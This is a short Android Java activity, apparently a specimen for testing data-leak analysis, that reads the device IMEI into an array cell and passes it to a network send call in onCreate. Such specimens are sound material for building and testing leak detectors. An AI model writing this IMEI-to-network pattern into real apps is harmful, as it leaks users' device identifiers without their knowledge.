package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        String[][] grid = new String[2][2];
        grid[0][1] = "x";
        grid[1][0] = Imei.read(this);
        Net.send(grid[1][0]);
    }
}
